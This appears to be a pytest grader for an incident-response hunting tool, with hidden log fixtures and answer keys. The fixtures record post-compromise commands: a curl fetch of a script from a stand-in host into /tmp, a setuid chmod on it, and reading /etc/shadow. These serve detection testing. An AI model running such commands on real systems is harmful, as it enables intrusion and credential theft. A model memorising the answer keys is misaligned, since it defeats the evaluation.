import os
import subprocess

import pytest

import tg_guard
import base64, configparser, csv, gzip, ipaddress, json, re, tempfile

FMT = 'ipset'
BLOCKFILE = 'blocklist.ipset'
VISIBLE = {'findings': {'compromised': [{'ip': '45.30.5.193', 'time': '2024-05-03T19:29:49Z', 'user': 'lars'}],
              'sudo_after_compromise': [{'command': '/usr/bin/curl -s http://198.51.100.7/x.sh -o /tmp/.x',
                                         'time': '2024-05-03T19:33:16Z',
                                         'user': 'lars'},
                                        {'command': '/usr/bin/chmod 4755 /tmp/.x',
                                         'time': '2024-05-03T19:35:58Z',
                                         'user': 'lars'}],
              'unknown_keys': [{'fingerprint': 'SHA256:bd6630d4eb6664e5a1c68ade26a7ec03fdce98c69e6',
                                'ip': '77.202.185.93',
                                'time': '2024-05-04T09:48:59Z',
                                'user': 'olga'},
                               {'fingerprint': 'SHA256:ce2c07d38dafe6d97a7f59188dbd9e33dfaa64652fd',
                                'ip': '10.25.31.161',
                                'time': '2024-05-04T15:40:14Z',
                                'user': 'gwen'}]},
 'timeline': [['2024-05-03T19:16:07Z', 'ssh', '45.30.5.193', 'lars', 'failed'],
              ['2024-05-03T19:16:56Z', 'ssh', '45.30.5.193', 'root', 'failed'],
              ['2024-05-03T19:23:13Z', 'ssh', '45.30.5.193', 'lars', 'failed'],
              ['2024-05-03T19:25:20Z', 'ssh', '45.30.5.193', 'root', 'failed'],
              ['2024-05-03T19:25:58Z', 'ssh', '45.30.5.193', 'lars', 'failed'],
              ['2024-05-03T19:29:49Z', 'ssh', '45.30.5.193', 'lars', 'accepted']]}
HIDDEN = [{'files': {'allowlist.txt': 'H4sIAAAAAAACAx3MQQrDMAwF0X1O8SF713UNLb2NYlQwCXKRpYTePk6XA4+Z0VzRDkGVj1I39WKu/Ibwzgoyo7Ky9ukewzOH/ArxliKAGbtvwkpL3ar90AvJyMulFB7pcvnvlnHw7xja0XSdThFsq/1zAAAA',
            'audit.log': 'H4sIAAAAAAACA+WbbW/bNhDH3+9TCHmzDdgYPhyPZAGjyNJuK7AnbO3rwrXVxFsjGZacbd9+R1qmnFqylYb2jBpFEYV1Y/9/5N39j2Tqf+f56M0fL39/e/Xm9Y/ZXXUzGi+ns/orYQSgksANA+WeGeH018+y+Ww60hIxW9IDz8b+C0gHDo10Oqvy6sG3y3d/jpbFpCzez4p8Gn76l+V89NvVz8/Gy/o2L+rZZFzPyiK7WYyLulxUo/n47u2ymP2TjSeTenQxH9/nHy6y/J98dHG5rBaX1btZcVlVt9OL7Las6mJ8l48EZ46hZAJENp5OFw8G6nxxNyvGH0b0n7IFfcBqOZnkVfXlm1cvRheLsqwvsqvwvCyqvL74om6RXF+/7kFiwSPBtEgmk3JJSIqb08Tx068/vPqlm4dG4XmYHh6CcwwkpOpH8KG8mRXZ+tW7JT7fIexymt9fzuvqUu7W17BsH/fOvAXFDOdeqY1KHRxl5t/9WS6KATMvJNPApJaRUDuSfu4DEWM9EddDhGZzxUIOmnk9eOY7dMWph93yGpjt44bS659fbOlUYCQzmnRKztc6FXdZFPhQquGqW+zk7ylpuy3v8svmM0zupiP5vdFGGUlfFUp0+NKPIBp6OxoHFAb8KzbQBDLLaXnRive6+bbu5n02hW8u9K6sjySEcQ5erohypT65rK8szT8w+rhxVWwMpc78AYvCsApkWizpMv/BkHRngMAEFPdMVA+TmP21sYmzf5e0mATEp+f/riSATlLh19JLhShV6SxqfKhW8L05oPkID3NAzADKuBD9Gl+g/3pN2UCibjKCNCA5vkTjX01g9+aGDhzN+2/y2BcEljAwBcpTiI5QHcn+1OX9eEAMaMeEQiZc6382hpLHwAqJQ48Ee5DQqpCrGNB8UAzIwTHQJS3GAN+tcAU0Pu0rDA7BMGXC5Eevp5w8WmEY6oLIEqLH4iKldiR1WSAolvEVFJsWSjpbeCAg3QERiAgMRcH1EGltYWpf2CFsaEvwWF/oDHL/TiRURF9IabnPFyqyxp/kC9c1gfI+93mfxjkGX4h6f+ZXKVwhICesTgovNrpCDe5owT80+5MtIEsg2w6oHUkc+8TEeEvoV7qQaZmkq4aH4dEZ+isgEDoloXqAxFpITWPqWritbKgd7C+FHZFPf6RjEFokEc2gtiqLAj+SaszeyF99gp7AB/yeLOh3ZP8khT8f0gx2CF69xYbgfQvcUnZjyMMCj3aPMsFRFngx+6usBu12SbLmQsmNXaH1SPIVviKCvtwL7CFC0w6BhXU4aIXDI/a7tpQNrW4NzvZxz+Rrwa1hEsLkR7uHyE8pu0nBnKKIb61+O5J67ldAlAxAbA+QGPLGps5uHcqG7ng9KrtpIZ1jShivMxo4NLovu1kLT8tuV+jHJLWzAq/Xza58YXTYAFM4oL2FJ2c7w8EYwzA0tzL6OXMkK0//tphNhxR0Mtf0V9q27MWRxEu+QWKEt7hS9CChdaBWSx6Hbe+r4QV9W9nQdLfmufG82+Iabh0IsnPai5WtWHU4i/v8kdt7BpgWTFC8rQm1I1tz/348+5BPh3jbLhiOo0823uLIaOWsEIeHsfqsJ8VCoGAgfUKU0LIwh2cxOCsclQaZfB58gYym0Co4PI1llS9OjYWVDEIHKKMdtFoensX7en6COMgd0U8PSSNaRmvkeWZQzR2jBeJhRLtoHT/LDKrBMK6CtYqW0nE80wyq0TIw/ixJRaNJK+UsM6jhilqbwCI6TAqdM8igHT2I4M4KRi2PxxE9qEN7UscJyvlmVCjdnsTGkdQtyIqI5WGBqB4icYsdgCc+T+hQNvR47XHnCUYIar4ZcF8wVLSZzsq+8wRh/o/jBJngOMEIQ302E/7emFRrE4nUchw+7Acvcs5o7bGNoG9H0uZAD8MfrIagxwjDmTOFYRRZhRDvaw+JQpzeKfOjmDzppKmBAsJvTSibFkrCsnAYIN1lYUUkXMdSrodIzJQINnVZ2FYWy4L+9LLwx+ur37dn3ymqQtQ6kFZY+0WS/8Aj8dURsxQ7Z5teU9Haf1vO848CIGCgH/SN/yYv7sPXuddWf/PReuhsLyaLstgm9bzF41+wG0x43hMJkqqUZOQKPAsR512bk7qG589otL8Z127ex5HUkdAQCd0EyB4i8Voa1f7El/A6lB3mDp7fiDScOR7iQEWl1vXdwVPSPO0S3qecu8oEF+2MUoCOKQhS114QpT6tk1dNFo6ci2kvm7YjqZf5ighIn/BB9xCJJ68UDolPXjuUDV3mu05eO5a5Amp0GFhf7CHaQYmQRYkPxeoBtwuaz3Dw++bN+2wK31feUIddQ+vtL0THZyxslzc08BmVtw73i86SraFW0LOIRk/ZI2wNVcv5vFwM3DcEyzZ+vSgOpG0FCIYzzIW+CKLHU84dYZ/sHaXI5UmxcBQkKH1B0NEDAofT6RGPhcJwSlPNjpCOFpCao8OjqPOqPjESmrlw91xH6wfqCBsHt+NpWc5PioXgVDXDgbWO5pCK2eFZ3CxPbVkoYRkPl9R0NI9wnkWEYDjLyN14GNE3am7PsIgYDqAZ8sAiOkut8ByLiLaULpw3WjqaTg3nWES0detsES2nRjjLIoKCAiTsKuroOJHzcywi1HYwHbwFRsOJQn3uRaSrR7X+bEwwGTInRs+JFrd7VKHV59OjdsLQlDE009bnToy20yq5DUPu+H3Hz6Fht74zJRbcb9ZgtJ2I9mjHVdX95NtqMi5S32N40olVw8WEO5MIabns38D8/5l07WE2UKwMOVX3QHGON1uYZv8Wpn/x0B3MDl1Df3+g5fnguy/+A0pnGMtASAAA',
            'journal.json': 'H4sIAAAAAAACA92cW08byRLH3/dTtHjaSMu4q/pS3Y78gBKyixRCBBwd5QnNNXgXPMgzToKi/e6n2xclZuEwHndmZ4LAxh4bz6/6X9VV1T18Pbi6Oj8+ent5cnp85W8uLo9O3x+M2QEQSC2IOFqLRsiD39jB1R9nF5fvjk6P/QuSuKqn5ewQDxN/7OLDxduz369OXh+/uzx5c3J87l9TVdfZ8o3vT177x0oI4x+/Pz85Oz+5/OCf09+9+83Rq5O36+eB+wPujC6Ofl9+4FGa5nd1nrG7RXIzTf/K71lRzlldfopZMS9v2XhcuK8x8EhFkkea3ZXzmgmDpJg7Exyz49eoFFh28ccRKj0mLpOMBDeJNGkRJ4Q5TzKUNoFEY2KNImMS93Z3Ln//8nVAtrqLb68Ws+mXX/1fHVd5VbmPfzFm699YeZfPnCW9/RZVvjLir4tpNgHO8QVL7tnyEX/xPLdErrUkoWx77sP1eW3xS8lDa2U2/ausHooFVCSsu4WVXqQQ/Am9oLtJMNdQiCyjPM5iHqtMpqkAgcAlFElaONkksR2o3XbVzdKgG+HIHYUjgVu+/GplgFfnZ+++B9dk7f7g6bycNQCfl2W9Jt0VWoqhQKc3ZfUQugGiMlITt4brwMImFUjY8aK+dpz+Lp/V0zT2J8WKeHqzmOcv2U35cRbf5hO2HFWWr+7q+n7i3s3m3hYTNr8uq3ryWBhZGmuydI2BWuuNs4QPnnFVfS7nWePYqTisY2cjcKWtdfcYZr6UBn5KefTHSm1loV2gx8aysNwYDkgQBliB/hll0SMrtZWFUOhyq4aycBoyPqahCgRM8ieURZ+s1FoWQijTVBbGugwIEKQJO3tqgADFx/foyZ/lfPYQ3XGjlBECrosP5ZiGzL5rAbG0yqaAUDvm0pa0K+41QcsguMjKbXDZPmVibD3CY3Z5+WFyV1cjYC/Z+/++noyuy9t8tDr6kv3n4vh84jNp9/urs9PTo3fuFYtqPkqms1HtfIYdzlwixUaf4vnIBY9RdV+5u4GZ45sO3F/dvZ56IIvn4RWS0FxzQTxM5CPAwAHgLv6U3/yjU+UCABr3sw4ASgkjGgaAXjHv6vhLa2xGWO/m+BoN8KBFtJa97xw4aKmHAt2uc0BkZNBxNVr1flwdtIahQLcbV0MogiJaBb0fVw8thwLdblyty125IYnchs1ASdrQrf/p7ON8mv0j//a5t42M2fSvUIkn1opMHkNueB6jm3jjOFdUSAmpBJEpJa0yIiEw1n36QA236wy+suhmChc7eQdx6WpUjYQoAuUumndRsLlvgsh3OVeCEVw2rFX7hdxhnUbcGINBMxdFfQ//DtoiHwp0q/Dv6kxfcKJui/hUFNMcRDfhH2UEZCIQYu3OSJY/sfarUYFIpMpzoqyQnHKTxVKQSqRI3ZRQWC6E0lDQQC3XafwHdKeqvFExSLNC8z1WvRnb6ONb80ZuNW/Wh5/p3vxZLuaz+Catb9jhwstoYHbYs2nzUBAN6IXzqaC1Twj6HzwzeGg5FOh2MwNyBM3RcElBUh0NiJ3sBVKR88eI1tmdK1pFB1uB+mWuDrcAOfBlR4uIU5joB7hXB3+liW+TgNiaBFZH/88cUPlJYFF8ZlUd14tqYPx7Rv8HOmgAb7RfwdZ6j60NjyZBzp0Cl4KPZ4+gIjCRpPXSnRtEaFgK9hK90/wPDUmj0BjLQ1uAeryuL3SEkcX1qv5yDWSgtnpsdf/RFa4N8spJuCXV2EmIDLqqKjg22C6W9rbABTfIhwze4foeCY3CGleVq0D5EFIni7lCRGQj2KSPylrdcH9Tv5C7HWu/C4yEBB4mBUIS+6SAq4H9lgLyrRRwdfSZNkB1X9X5re8CzHOXCTolzD5OZ18GZos908EHmmgA7y+FCLpeJnq/+OuhjRwKdLtegOJKuzranVmgDperk0M6uNjNwXeu8XrF37VTK5BhF8FNiN3cP9iplb8acCjQ7ZxaGx+3pKBAa5lO1KavZZuGiMxymwAQ361y65WZmlVs27Tr2kXwhpdvOGJDhlsr9ricaYtYBOtodCKMpu7TIys9povlzPecLIi4bC4LK/2SOIa9ys2By58ybvTQXHvEDyBqLBSr9Z7k28Qofnjp/wizRqv4EJm7rP21RUP7gD9MjYXS/2Jp4CuD9Pq2zJjLARUb1bd3o+jLwMzQdYWgrdQmKDzBv62BuGajvE5H1XWclZ8HZoOuBWCNgqDXNVjq/b+B8NBiMNCtSkQDQtqwrS3o/UU6xu/t0UOBbjmurnAhP2NZCJubailD7/FZ3MbzrUwNRWRFBAARqs2/+wE0j+/xyeIiTVKdFpkuCrK5RcpzTgQq54UyaUYmjWMDkKQDNduuyZ635ya2w26eoQi1CtvpFr0PB4p872Qg0O3CgXKKDntZIkL/x9X49fmBQLcbV225DNu5t/33VwftEvGBQD8xrv8DSM2TYNNRAAA=',
            'known_keys.txt': 'H4sIAAAAAAACA0XRS04DMQwA0H1PEYkL5GPHCSuQQGLPCezEQYV2ZjRMK3F70qIMm0iW4uffg+FS5su0GdOO04euy3q8BdvPosaU+XzWaTvI57xO5v3t2WN8xKDOcgNo0eXWcqOSY7CoQAUq1qyeGhMQB/P64hFdNnfg6cTLNi+HXmc91sH56NEFAVQlqg0saaoMgVAglIi+ZRsCRtdo5/6E4U3Hr/l75/ojXvv3UCspV7aMFUoJLnhnwTUpTXISzjt3B4a28FVPQxNXwIfKytTHLELNZoVWEH3lEqtApoCaEe2u3YGhbfOVB0YWpFKwSSCVxkJerVQPWZxE33tCSkk8ofvHbvnDupx53a2k7DRZZd9XxKxI/SK9WxcqImRMQcilXIru1i1/WL9OlFjQ+AEAAA==',
            'timedatectl.txt': 'H4sIAAAAAAACA12MsQrCMBRF93zFHXUQS6lLV3ETKZh+QLl9YDDNg+ZRSL/erPZwx3sO8MdTOUVYWKTHiRqj0GRG27TdpbnVnR0O+HrGrqkaD+N19Hf3LtlkAaPyi1wSP6umsMvco0g+FF5+QJZ1C6yFiRY2cT85IKuglgAAAA=='},
  'host': 'bastion-2',
  'truth': {'findings': {'compromised': [{'ip': '61.78.219.170', 'time': '2024-05-03T20:42:46Z', 'user': 'pavel'}],
                         'sudo_after_compromise': [{'command': '/usr/bin/chmod 4755 /tmp/.x',
                                                    'time': '2024-05-03T20:48:07Z',
                                                    'user': 'pavel'},
                                                   {'command': '/usr/bin/cat /etc/shadow',
                                                    'time': '2024-05-03T20:51:08Z',
                                                    'user': 'pavel'}],
                         'unknown_keys': [{'fingerprint': 'SHA256:78ea1e80ea2652aae57f441c413d5549583b7189cce',
                                           'ip': '10.34.219.88',
                                           'time': '2024-05-02T23:27:20Z',
                                           'user': 'ingrid'},
                                          {'fingerprint': 'SHA256:dafcbc6cfd6ff79e927ee07715e0f58cd78caa811bc',
                                           'ip': '23.93.111.25',
                                           'time': '2024-05-04T10:21:37Z',
                                           'user': 'umar'}]},
            'timeline': [['2024-05-03T20:33:04Z', 'ssh', '61.78.219.170', 'pavel', 'failed'],
                         ['2024-05-03T20:41:18Z', 'ssh', '61.78.219.170', 'root', 'failed'],
                         ['2024-05-03T20:41:34Z', 'ssh', '61.78.219.170', 'pavel', 'failed'],
                         ['2024-05-03T20:42:46Z', 'ssh', '61.78.219.170', 'pavel', 'accepted']]}},
 {'files': {'allowlist.txt': 'H4sIAAAAAAACAx3MQQrCMBBG4X1P8UP3MdVoxdtMwwihZSKTmRZvb+rywccbUV1RD0GRt1Iz9Wyu/ILwzgoyo7yytmGKYU4hPUO8XCOAEbtvwkpL2Yp90TJJz9Pd7mGaHydMf7j0hX/60Y6q6/ADTtJ+JHQAAAA=',
            'audit.log': 'H4sIAAAAAAACA+Wcb2/bNhDG3+9TGHnTDegYkkceyQJGkaXtVmDdhv55Xbi2mnhLJMOyu+7b70jZlN1ItpLQmjG/isy4jp8fj3fPneUu/pllww/vXr79eHF5+X5wW14NR8vJdPG9MEIhSM4FA2WeGQvqh2eD2XQylBr4YEkXfDDyP5R0yqGRTg/KrNx6uPz053CZj4v88zTPJuHVnxSz4R8Xb56NxuNimS+m+dXgaj7KF8W8HM5Gtx+X+fTrgH65GJ7djObl2SD7mg3Pzpfl/Lz8NM3Py/J6cja4LspFPrrNhoIzbZlAzdAORpPJfHtlkc1vp/noZkj/bDCnd1cux+OsLJ98eP1ieDYvisXZ4CJcL/MyW5x9t4g8fv3959e/NQNRnHsgugWI4FwFFNbKVgY3xdU0H6yfvVvk813KzifZl/PZojxXuwVWNOPVhtLLNy8adIJhXCivE2udbhAFbksVmjdLHf89IWXXxW12Xr2D8S290iujDRgpX6FEhy/p5wX6NYkvUeAlglF4Kbl8YbTk9EwgxTWjgGg5Kc5qCh4A3AVQ/ckNABuyGwPeCG2YBet1m6gbXS8Bn0//KrpEPFAESCYMxLioV5JHfCDiJHgitoUIhUHFQgN2injdOeIblMWI57sFrnDWl3ti3ghLMa+FV+qiUmcGUeK2WCNwb8yv3kNL0Ct8hYA/IQU+hTkF+v4gb9C8+hubojfD/MP7X76VqkAbxRA0SVV8LRXBJgjz5eI6ozAfjxbTIn9sbpeU77Rkuo70euURkd509D0TzST41K5EWibJat2BeDSe/BUQ54u/ki1AYgFwmLjUNQiLB188tNQ1HgZjtGMc0euEqBPl4Q7D83smfOFZiK2Mv7F0Z+M/j6Y32aTLOWjGYR3TxqdBFT0fGtFbbjgQlUemh4DFKOmx6LRY0jmDgyFpzhCBiQ1uWGELk9obpLYGTcq6uuFd3qDhVBguOFBO0kFqNIa0fGwVUzlqT5iAuhuqV9IeiRUTBN8kKJuWSbKKeSAeTedhDcSF1OlagMSKabRIXDIblHX1yvfpDkmQJWdgQneoo300Urd1hwrgQd0h9X0rq2w0ojGhF1QojPLP2G+W1T07wqaDbyVH6n+C1mgLjTm6gy8Vo5ZdUJaNDiqupD74xMQwKX2XrGVaJums8mF4NB/8AARCIdTQAiSeBrQutVe+qywefHiwV27YeSHAAKOU5oVGc2ic6mXnvbIuO49MeG8AG1tfL6Xe+woJ6JAgdAsS2k1RwbCdtl503/oGZXHv5W6BFc94tScTCmGsZdaFvcdaKB5dYwCKeHhj6OoxUr2UOBl6LFR3Mey/SYsl4cjwUEhazkToIcPQUNsWJrExAHSph4YN0roeip2dQdP+S229GfKNoY6mz3JzTClRMAmSzGHdO60Xkm99hcP644C8BUdMhxZT58O7wrq2hPfMhsYozRz4qRFGX2j7mBql3/PHDIw8CdQM0LtBjG7QupMk4ZBRovIkog10wpwgCWsks6FDQFWTcP9vEg3lQXLyh4xSoScR7aHTR/URutBMWMXIs0YacSV1gaiAuDBIRWwBUvdKyiTulRqUJfhcoWnnqU2igJKhQqyNIfCexmPXy6uiw85T94DURPC6VapXku98AKJlOAq2BQjtJVQodDdXCJ13vkFZ1/FYRTNe7R6PSemAgswEC+SiTmkHUeC2VI1q73isegeHu3miIfSrP7kBYE/Sl4YcMHPOB7zhUbfrIel3jHajmFYM6x4oLqQtf9IKTa1ymIybtTkE0Uf5W96O5kdFQvqEG8qfkZGE1ocncbXMysVxoXDUmhrvDg3UKHpwh9V7PSISIIFZ7jwJFUnYHkiUy9msmB8ZDGuYECEsdA3jFLOm4o5pEerH2hmC5PoEs6ZSmnqRcECidZSgTjFrakAGLqCIplFqcXJZE8hVWsYhkIi2Eqzsbf7eMV9IQyabkxGsP6SIK4mH7xUTIX0zaXlaJsl6rAPxaOyxKiDUY3sgogVIbDzImyXusRqUde2u79VjgTOKNp77AZONvlIJbOuxEB/UYj32DgT+6LbK+lt0BTPCn3sbfSNCDwZhNu2W/2gr7Gb6C4+TZj9PwfDVp482ekbU6phsUj8cLDJU3iTZaBfR9MDh82K2LLP5EaHQQjEqhh5F9IvYy7xhNCmK2TGRUJR0g1+00S8a6MEkFfPR+CY7IhKIwECGmIh20fRhF+/hnPsBYYGhCPkyukWD9sSqhpWWqdBcu+gPjdMnVzUc14yHm1RctIW2j9b6+KqGE5JBhULWKOwJVg1nOVPhy44uGksLcHpVw3HuW2tfNVw0l+S7T65qOOHvYFfhcOgahD6tquH890pkaC4d1hTcqVUN57+BV93a6KKttIafYNVwwlJISD9XcbZGASdXNaxSDhiXvtdwribhehtDll/GP5bjUZ52NvuoQeSKilZEhWpJWir7B5H/NZGmUeQKCcqARLQgcY5X4znd4b/K8E/uOoi8K6vrNyJqmFuPNuS+e3/x9m4EkF5g1t/u4/jaVyoht0rnSqyCnTtOzynpAHwsZtk3pyCgoBd66h9k+Zfwc+YVLp5+ExONn16M50V+F9fzGpJ/wm484fq7fwFH7UwfOEYAAA==',
            'journal.json': 'H4sIAAAAAAACA91b227bOBB9368g8tQCG5nXIenCD0abtgaaC5IsFn0KdG3cxpahy7ZBsf++Q8VBG8dBbJn1Sg2C+CJF9pk5Z3iGpL4fXF2dH40/XE6Oj67cn4vL8fHZwZAcMM0kCEaFBtCWqYM/ycHV+9OLy5Px8ZE74XM9Wxym9SE7jNyxi48XH07fXU3eHJ1cTt5Ojs7dOWV5nRyWaVlO83lzgbPJG/c+V5S512fnk9PzyeVH9x78dJW349eTD8v3GXUH8JtdjN81H7wIZ1f1fPrthbv6MKyr65dD4h7SeTWNwwo/i2Th9KYu0lfkJv80D2fpiNTTZERJevdQVbcj/G9S1GVajEhxnZfVaDjM8GfIaMBNoGXApCWkOWE+/ZKXB//+8b2H0XqLkUgTsgjL8mteJCTLC9LgIVmRz8g60Iu8qIi0klKCX4lvBBw0lZZb4xu4aA18HMfpomoDXVhKoc/QHypkeXUUyfIZyRfpPL2Lh+P3XVBeOGkwStVLEt2S5hV9uUEAuLWGNj+tAvD6/PTkZ+DCAt8deFzk8w2AF3leLZFuB1pQTFBPQMc3ebkK+nmIqH6mKHBQujWxHxAa7r74jlquo5tp/CW9beB8mRbhqpaVRSGbH2IGyQ1vxDwkR2+4UsySi/djrmAY0ljxWEcyMRBHSkVRpqNUppS5LysyYJlgJtE8THoWr20LgAvkvf75dlJQWPqoRylIqlTn9a8sEqMvoNvpH7hi2itELjufVwQtWV9At8yr4FpqKwQT7epUneQP65RpT11CyE1YlGRILi8/jhZVORDkFTn7+81ocJ3P0kFz8BX56+LofOTg4fPXp8fH4xM8oS6LQTSdDyo0uORwThQlg3/CYoCOf1DelvjQs2D8KNp41e1J7mJ1X8PlBlzXmjOfXBfG2s4LHEFL2hfQrQSuseQorzWMcdb1vDrQWvQFdNu8aoH8FVJZv52mVt6NeT0Li1VjLmnAKBpzrpddNkWfvt6YZxHVoA2AMphWrKlJlqQy1lywJI6ZZAlHwy6ogKSncdvWoLuA3hd32E4a+Kus1kCl8Ivf7KehEyawLGAgl/NSYCT8+n6um2HbX1+nmRJcGKaBaT/WyEi+i09sqPGUT2wOPuMTP+d1MQ9v4grdYu0I1LMY7GgPH1JhA+zW7xSXZKrz83oOtLR9Ad3ORnBOhbbSMvA8YW1B+R4OZtP5o+FAQsC5DkAsp/e41Wz9cCBxPIjiVEc0TjMlqEQPkYqMmxDHEJHaCKxW6CayTYaDToZt2+HAxfO+BrDtlMGVtejJkNDCy/QmpkP7pst1/Sl/RBcRyICxpeeUznQ+4TkTrItoKJMsTCnPJFUZpgbSMEpkojhkECrOWUwT3rNobcsSF8Z7logtWQJSaG0wnsrLgCmoMruYhoYRP0wDe2AamoPPmIbytqzSmfMMRVpWIVJo/mk6/9azSOxoHR4SYhPsSiBuxZX0WisFBe15OXhdybDYo8pAq/uSYbjZbDG4m8D3KH8BHLQQbjXMT9njSu1lzRD7S+wx1XLJEEcFa/fQYnYqXHtsLQUA8+qyqeh+a4GgOfQFdLvWQoBhinKKI58nPmvpud43C0or6jeNSVxOLyls+dWG5b5TeLfV78Plou2orLlQ1PXK1I+3WW6e+l+WEEtn8+rsK0F7V9Vlz9Dvd81QC0uZpq6Lon4NznIB9ldv9IOASWwHFVsuQTCt+aZi7yL0PW70cwFQVBhl2u50XOW9kLCL6u8S/FRzd3f0me4uXFSkXiRhlfYM/o6yX6HB8+AVNkFel1eppZ13bAgaWF9At3NswJgRXvexis5v8mpAy76AbpVXg4MUAEgrLPgdrKSAzt63YRSO7DbgVAQM6PLWDedwehqvdXduPO5fVlDfNTFGWbGZr0HoTDLmNrRbP03MshvqD0U2lVSH4rSOGo3JeZYawhgpN6aGUJpbkMq3Krz1uR2rIh2M1w5VhGkwG1NFckOpRnvsGbplv2c16WC82lcVxZH0G1MFqOEKn3oqpIr+pp6kQ3HaoYq4lfCNqWGE2BHyWlUoYX/5RPJ6I2ZNr8Hvb1bZUE4V7IJ/dYJFKetxVpltfWMKlg8ySKt4UF6HSf61ZxHY78yycXtvmFfsmnvMPt06+9OkZ6D3nnDQXskO1GfC5fZyL/J5FUbk8KZn4PedeMMBvE6/Gd31OUcHWou+gG435yjcjTYIkhtPu1mAg+/NP49cG2cmYIYFnLEAW7L7PQBSPLFLVNIkE9JwwyObCJ5QraVKeYRqDm1smYkiChFPUwU9i5hPp/cfC5iDaFZIAAA=',
            'known_keys.txt': 'H4sIAAAAAAACA03QQU7EMAyF4T2nqMQFHDt2ElYggcSeEzhxPFQw7ajMLLg9LVILyyze51+5H7S1+TZdh8HH6dSXyzJuj+v3pQ9Dm8/nPl3v3m+neXh7fUKWBzcAJDFz7YAegb0IS9dq0RjFRRkxNDAcXp6ROZRh2z9+6uU6X+4+xkV3S6ExtlSjZWmVuVZPtccOASUAuQSnkC2h2mFt+9361OXr6KqQJGURzjGRZDa3HltCCtZaiMFwvUGwph/Wtt+t8zgdXXENq62nCq07E8RV6uSYNUqmXqqUxKvp/7q2/W5N48d8hCXoDaRRZiprWmbFCpbIIDZKWkQ1VYZO+vdhv8Cu3c667BiSZwuulLFmc6LoPULp6JykFKGCuTpaLXRg2363fgDtp3cv8AEAAA==',
            'timedatectl.txt': 'H4sIAAAAAAACA12MsQrCMBRF93zFHXUQS6lLV3ETKZh+QLl9YDDNg+ZRSL/erPZwx3sO8MdTOUVYWKTHiRqj0GRG27TdpbnVnR0O+HrGrqkaD+N19Hf3LtlkAaPyi1wSP6umsMvco0g+FF5+QJZ1C6yFiRY2cT85IKuglgAAAA=='},
  'host': 'jump-eu-1',
  'truth': {'findings': {'compromised': [{'ip': '185.159.203.160', 'time': '2024-05-04T05:50:33Z', 'user': 'lars'}],
                         'sudo_after_compromise': [{'command': '/usr/bin/cat /etc/shadow',
                                                    'time': '2024-05-04T05:54:16Z',
                                                    'user': 'lars'},
                                                   {'command': '/usr/bin/id',
                                                    'time': '2024-05-04T05:59:21Z',
                                                    'user': 'lars'},
                                                   {'command': '/usr/bin/crontab -l',
                                                    'time': '2024-05-04T06:04:36Z',
                                                    'user': 'lars'}],
                         'unknown_keys': [{'fingerprint': 'SHA256:fb076786658473685dfde4c7231dcc141d26cb3036d',
                                           'ip': '10.40.108.127',
                                           'time': '2024-05-03T02:18:56Z',
                                           'user': 'umar'},
                                          {'fingerprint': 'SHA256:40df348282b9d32d07745e2b762a9c918bb06b2ee56',
                                           'ip': '218.181.211.142',
                                           'time': '2024-05-04T13:44:33Z',
                                           'user': 'lars'}]},
            'timeline': [['2024-05-04T05:37:46Z', 'ssh', '185.159.203.160', 'lars', 'failed'],
                         ['2024-05-04T05:39:01Z', 'ssh', '185.159.203.160', 'root', 'failed'],
                         ['2024-05-04T05:42:37Z', 'ssh', '185.159.203.160', 'lars', 'failed'],
                         ['2024-05-04T05:43:48Z', 'ssh', '185.159.203.160', 'root', 'failed'],
                         ['2024-05-04T05:46:48Z', 'ssh', '185.159.203.160', 'lars', 'failed'],
                         ['2024-05-04T05:50:33Z', 'ssh', '185.159.203.160', 'lars', 'accepted']]}}]
PROG = '/srv/ir/hunt'
FILTER = '/srv/ir/filter.d/ir-auth.conf'

def _blocklist(path, fmt):
    pat = {"hosts_deny": r"^sshd\s*:\s*(\[[0-9a-fA-F:]+\]|[0-9.]+)\s*$",
           "ipset": r"^add\s+(ir-block4|ir-block6)\s+(\S+)(?:\s+-exist)?\s*$",
           "nft": r"^add\s+element\s+inet\s+filter\s+(ir_block4|ir_block6)\s*\{\s*([^}]*?)\s*\}\s*;?\s*$"}[fmt]
    got, bad = [], []
    with open(path) as f:
        for line in f:
            s = line.strip()
            if not s or s.startswith("#") or (fmt == "ipset" and s.startswith("create ")):
                continue
            m = re.match(pat, s)
            if not m:
                bad.append(s)
                continue
            if fmt == "hosts_deny":
                a = m.group(1)
                v6 = a.startswith("[")
                items = [(a.strip("[]"), v6)]
            else:
                v6 = m.group(1).endswith("6")
                items = [(x.strip(), v6) for x in m.group(2).split(",") if x.strip()]
            for a, v6 in items:
                try:
                    ok = ipaddress.ip_address(a).version == (6 if v6 else 4)
                except ValueError:
                    ok = False
                (got if ok else bad).append(a)
    return got, bad


def problems(out, truth, fmt):
    """What is wrong in the outputs under `out` against `truth` (an empty list: all right)."""
    p = os.path.join(out, "findings.json")
    if not os.path.isfile(p):
        return ["findings.json is missing"]
    try:
        with open(p) as f:
            got = json.load(f)
    except (ValueError, UnicodeDecodeError) as e:
        return [f"findings.json does not parse: {e}"]
    if not isinstance(got, dict):
        return ["findings.json is not an object"]
    msgs = []
    for key, want in sorted(truth["findings"].items()):
        have = got.get(key)
        if not isinstance(have, list) or not all(isinstance(x, dict) for x in have):
            msgs.append(f"findings.json: {key} is not a list of objects")
            continue
        fields = sorted(want[0])
        norm = [{k: x.get(k) for k in fields} for x in have]
        if norm != want:
            miss = [w for w in want if w not in norm][:3]
            extra = [x for x in norm if x not in want][:3]
            msgs.append(f"findings.json: {key} differs (missing {miss}, unexpected {extra}"
                        + (", or out of order)" if not miss and not extra else ")"))
    if "blocklist" in truth:
        p = os.path.join(out, BLOCKFILE)
        if not os.path.isfile(p):
            msgs.append(f"{BLOCKFILE} is missing")
        else:
            have, bad = _blocklist(p, fmt)
            if bad:
                msgs.append(f"{BLOCKFILE}: lines or addresses not in the stated format: {bad[:3]}")
            if sorted(set(have)) != sorted(truth["blocklist"]) or len(have) != len(set(have)):
                msgs.append(f"{BLOCKFILE}: missing {sorted(set(truth['blocklist']) - set(have))[:4]}, "
                            f"unexpected {sorted(set(have) - set(truth['blocklist']))[:4]}, repeated: {len(have) != len(set(have))}")
    if "timeline" in truth:
        p = os.path.join(out, "timeline.csv")
        if not os.path.isfile(p):
            msgs.append("timeline.csv is missing")
        else:
            with open(p, newline="") as f:
                rows = [r for r in csv.reader(f) if r]
            want = [["time", "source", "ip", "user", "event"]] + [list(r) for r in truth["timeline"]]
            if rows != want:
                n = next((i for i, (a, b) in enumerate(zip(rows, want)) if a != b), min(len(rows), len(want)))
                msgs.append(f"timeline.csv: {len(rows) - 1} rows for {len(want) - 1}; first difference at row {n}: "
                            f"{rows[n] if n < len(rows) else None} for {want[n] if n < len(want) else None}")
    return msgs


